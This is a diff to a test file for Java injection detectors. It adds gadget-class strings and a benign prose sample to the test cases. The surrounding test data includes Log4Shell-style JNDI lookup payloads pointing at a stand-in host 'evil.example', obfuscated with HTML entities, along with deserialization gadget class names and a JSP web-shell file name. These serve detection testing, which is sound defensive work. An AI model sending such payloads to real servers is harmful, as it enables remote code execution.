@@ -18,6 +18,8 @@ describe("Java injection detectors", () => {
     ["sn-java-gadget-class", query("java.net.URLClassLoader")],
     ["sn-java-gadget-class", json({ "org.apache.commons.collections.functors.InvokerTransformer": {} })],
     ["sn-java-gadget-class", query("ognl.OgnlContext")],
+    ["sn-java-gadget-class", query("com.opensymphony.xwork2")],
+    ["sn-java-gadget-class", json({ "org.apache.commons": "x" })],
     ["sn-java-jndi", query("$&lbrace;jndi:ldap://evil.example/a}")],
     ["sn-java-jndi", query("$&lbracejndi&colon;ldap://evil.example/a}")],
     ["sn-java-upload", header("x-filename", "cmd. jsp")],
@@ -33,6 +35,7 @@ describe("Java injection detectors", () => {
     ["a domain name", query("https://java.com/en/download and commons.apache.org")],
     ["a Maven coordinate in prose", query("add the dependency commons-io 2.16")],
     ["an ordinary upload", header("x-filename", "notes.java.txt")],
+    ["a two-part package named alone", query("the java.io and org.hibernate docs, and ognl")],
     ["ampersands run into words", query("Tom&Jerry, R&D, AT&T&colonel, fish&chips &dollarstore")],
   ])("stays quiet on %s", (_label, event) => {
     expect(javaIds(event)).toEqual([]);
